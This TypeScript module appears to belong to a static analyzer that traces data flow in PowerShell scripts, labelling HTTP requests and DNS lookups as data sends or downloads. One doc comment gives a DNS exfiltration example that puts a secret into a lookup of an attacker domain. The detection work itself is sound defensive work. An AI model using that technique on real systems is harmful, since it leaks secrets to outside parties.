import type { Node } from 'web-tree-sitter';
import type { Value } from '../../facts.js';
import { isSensitive, isSensitiveBeyondAuth, splitHeaders } from '../request-data.js';
import { concat, literal, tainted } from '../values.js';
import { writeTo } from './cmd-files.js';
import type { PsCtx } from './context.js';
import { endpointOf } from './endpoints.js';
import { data, opaque, type PsVal, ph, toValue } from './psval.js';

/**
 * One HTTP request from PowerShell (cmdlets and .NET clients alike): a `send` with its data when it
 * has a body or carries user or machine data in its URL or custom headers, else a `fetch` whose
 * response is `download`-tainted; `-OutFile` remembers the file written. DNS names built from data are
 * a send too, and TXT lookups a way in.
 */

/** The downloaded response of `url`. */
export function downloaded(url: string, tool: string): PsVal {
  return data(tainted(literal(`\${${tool}-response}`), 'download', { from: url }));
}

export interface HttpParts {
  body?: PsVal;
  headers?: PsVal;
  outFile?: PsVal;
  /** `-Credential`, `-Token`: what authenticates the request. */
  auth?: PsVal;
  /** `-Method Post` with no body is still a send. */
  method?: string;
}

/**
 * One HTTP request: `send` with its data (a body, a write method, user or machine data in the URL or
 * custom headers), or `fetch` (to `outFile` when given). Credential headers, `-Credential`/`-Token` and
 * a secret-named environment variable in the URL go to `credentials`, not `data` (the rule weighs them
 * against the endpoint).
 */
export function httpCall(
  ix: PsCtx,
  node: Node,
  tool: string,
  urlVal: PsVal | undefined,
  o: HttpParts,
): PsVal {
  const url = toValue(urlVal);
  const endpoint = endpointOf(ix, url.text);
  const headers = splitHeaders(o.headers, (h) => (h.k === 'hash' ? h.props : undefined), toValue);
  const cred = [...headers.cred, ...(o.auth ? [toValue(o.auth)] : [])];
  if (url.secret === 'env-secret' && !url.taints.includes('file')) cred.push(url);
  const credentials = cred.length ? { credentials: concat(cred) } : {};
  const body = o.body ? toValue(o.body) : undefined;
  const parts = [...(body && body.text !== '' ? [body] : []), ...headers.data];
  if (!url.literal && isSensitiveBeyondAuth(url)) parts.push(url);
  const out = downloaded(url.text, tool);
  if (parts.length || /^(?:post|put|patch)$/i.test(o.method ?? '')) {
    const payload = parts.length ? concat(parts) : literal('');
    ix.emit({ kind: 'send', endpoint, channel: 'http', data: payload, ...credentials }, node);
  } else {
    const file = o.outFile ? toValue(o.outFile).text : undefined;
    ix.emit({ kind: 'fetch', endpoint, tool, ...(file ? { file } : {}), ...credentials }, node);
  }
  if (o.outFile) writeTo(ix, toValue(o.outFile), out, false, node);
  return out;
}

/** `Resolve-DnsName "$secret.attacker.tld"` sends data in the name; TXT records bring data in. */
export function dnsQuery(ix: PsCtx, name: Value, txt: boolean, node: Node, tool: string): PsVal {
  const suffix = name.text.replace(/^[\s\S]*\}\.?/, '');
  if (!name.literal && isSensitive(name))
    ix.emit({ kind: 'send', endpoint: endpointOf(ix, suffix), channel: 'dns', data: name }, node);
  if (!txt) return opaque('address');
  ix.emit({ kind: 'fetch', endpoint: endpointOf(ix, suffix), tool }, node);
  return data(tainted(literal(ph('dns-txt')), 'download', { from: `dns://${name.text.slice(0, 200)}` }));
}
